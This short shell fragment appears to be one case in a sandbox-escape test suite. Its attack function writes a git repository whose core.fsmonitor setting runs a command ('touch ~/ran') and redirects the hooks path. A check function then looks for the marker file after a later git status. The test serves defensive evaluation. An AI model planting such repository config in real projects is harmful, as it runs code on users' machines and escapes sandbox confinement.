# H2: a new .git in the project, whose configuration the next prompt would run
plant() { git --version >/dev/null; }
attack() {
	git init -q .
	git config core.fsmonitor 'touch ~/ran; false'
	git config core.hooksPath "$PWD/hooks"
} >/dev/null 2>&1
escaped() {
	(cd "$P" && git status) >/dev/null 2>&1
	[ -e "$H/ran" ]
}
